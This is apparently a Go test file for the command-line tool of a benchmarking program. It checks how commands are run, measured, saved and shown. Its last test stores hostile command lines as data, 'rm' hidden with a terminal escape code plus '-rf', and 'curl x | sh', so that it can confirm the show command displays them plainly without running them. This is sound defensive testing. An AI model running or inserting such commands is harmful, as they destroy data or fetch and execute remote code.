//go:build unix

package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"parallelogram/core"
	"parallelogram/core/runfile"
)

// standIns makes programs of a name each in a folder, and has them found first. Each
// writes down how it was called.
func standIns(t *testing.T, names ...string) (calls func() []string) {
	t.Helper()
	folder := t.TempDir()
	log := filepath.Join(folder, "calls")
	for _, name := range names {
		script := "#!/bin/sh\necho \"" + name + " $*\" >> '" + log + "'\necho 'took 4 ms, 250 MB/s; solved in 4 ms'\n"
		if err := os.WriteFile(filepath.Join(folder, name), []byte(script), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", folder+string(os.PathListSeparator)+os.Getenv("PATH"))
	return func() []string {
		text, err := os.ReadFile(log)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Split(strings.TrimSpace(string(text)), "\n")
	}
}

// short makes a run of a command a matter of a second.
func short(args ...string) []string {
	return append(append([]string{"run"}, args...), "--workers", "1,2", "--cores", "1", "--rounds", "1", "--width", "0", "--confirm", "0", "--no-wait", "--out", "run.txt")
}

func TestACommandIsMeasuredKeptAndShown(t *testing.T) {
	t.Chdir(t.TempDir())
	calls := standIns(t, "build", "scrub")
	out, _ := execute(t, Done, short("build -j {workers}", "--prepare", "scrub {workers}", "-L", "level", "1,2", "--env", "LEVEL={level}")...)
	says(t, out, "parallelogram run 'build -j {workers}' --workers 1,2 --cores 1 --prepare 'scrub {workers}' --dir ", "--env 'LEVEL={level}' -L level 1,2\n", "level=1", "program")
	got := calls()
	for _, call := range []string{"build -j 1", "build -j 2", "scrub 1", "scrub 2"} {
		if n := len(slices.DeleteFunc(slices.Clone(got), func(c string) bool { return c != call })); n < 4 { // probe and round, two variants
			t.Errorf("%s was run %d times: %q", call, n, got)
		}
	}
	before := len(got)
	shown, _ := execute(t, Done, "show", "run.txt")
	if table, _, _ := strings.Cut(out, "\n\n"); !strings.HasPrefix(shown, table) {
		t.Errorf("show begins\n%s\nthe run did\n%s", shown, table)
	}
	if after := len(calls()); after != before {
		t.Errorf("to show a run executed something of it: %q", calls()[before:])
	}
}

func TestACommandIsMeasuredByWhatItSays(t *testing.T) {
	t.Chdir(t.TempDir())
	standIns(t, "solve")
	for unit, c := range map[string]struct {
		pattern string
		more    bool
		says    string
	}{
		"s":    {"took (.*),", false, "Times as the command says, not its wall time."},
		"MB/s": {"([0-9]+) MB/s", true, "Times per MB as the command says, not its wall time."},
	} {
		out, _ := execute(t, Done, short("solve {workers}", "--metric", c.pattern)...)
		says(t, out, c.says, "4.000 ms")
		run, err := runfile.Read("run.txt")
		if err != nil || run.Experiment.Metric != (core.Metric{Name: c.pattern, Unit: unit, More: c.more}) {
			t.Errorf("%+v, %v", run.Experiment.Metric, err)
		}
		for _, trial := range run.Trials {
			if trial.Runtime != 4e6 || trial.Wall <= 0 || trial.Wall == trial.Runtime {
				t.Errorf("%v took %v by what it says, %v by the clock", trial.Cell, trial.Runtime, trial.Wall)
			}
		}
		os.Remove("run.txt")
	}
}

func TestItemsAreMeasured(t *testing.T) {
	t.Chdir(t.TempDir())
	calls := standIns(t, "convert")
	if err := os.WriteFile("list", []byte("a b\x00new\nline\x00-x\x00"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, _ := execute(t, Done, short("convert {item} {task}/{tasks}", "--items", "@list")...)
	says(t, out, "serial", "subprocess")
	for _, want := range []string{"convert a b 0/3", "convert new", "line 1/3", "convert -x 2/3"} {
		if !slices.Contains(calls(), want) {
			t.Errorf("%q was not run: %q", want, calls())
		}
	}
}

// A file that names its command otherwise than it is shows what would be executed.
func TestShowTellsTheWholeCommand(t *testing.T) {
	name := filepath.Join(t.TempDir(), "run.txt")
	c := core.Command{Main: core.CommandLine{Args: []string{"rm\x1b[8m", "-rf", "{workers}\n"}}, Env: []string{"A=b"}, Setup: core.CommandLine{Args: []string{"curl x | sh"}, Shell: true}}
	text, err := json.Marshal(core.Experiment{
		Workload: core.Workload{Name: "ls", Command: &c, Tasks: 1}, Strategies: []core.Strategy{core.Program}, Workers: []int{1}, Cores: []int{1},
		Rounds: 6, Target: 3e8, Base: core.Cell{Strategy: core.Program, Workers: 1, Cores: 1},
	})
	if err != nil {
		t.Fatal(err)
	}
	file := "parallelogram: 1\nexperiment: " + string(text) + "\n# host {}\n# started \"2026-11-28T19:00:00Z\"\n# trial {\"round\":1,\"tasks\":1,\"checksum\":\"0\",\"finish_ns\":[5]}\nBenchmarkLs/strategy=program/workers=1/cores=1 1 5 ns/op\n"
	if err := os.WriteFile(name, []byte(file), 0o600); err != nil {
		t.Fatal(err)
	}
	out, _ := execute(t, Done, "show", name)
	says(t, out, "\nparallelogram run ", `rm\\x1b[8m`, "curl x | sh", "A=b", "--shell")
	if strings.Contains(out, "\x1b") {
		t.Errorf("control characters reach the terminal: %q", out)
	}
}
